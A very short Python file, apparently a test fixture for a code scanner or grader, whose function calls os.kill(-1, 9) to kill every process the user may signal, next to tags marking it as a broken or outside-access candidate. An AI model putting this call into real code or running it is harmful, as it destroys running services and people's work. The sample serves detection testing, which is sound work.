"""Kills every process that it may."""
# scan: outside_access
# run: wrong verify.candidate_broke
import os

def run(x, y):
    os.kill(-1, 9)
    return launch(x, y)
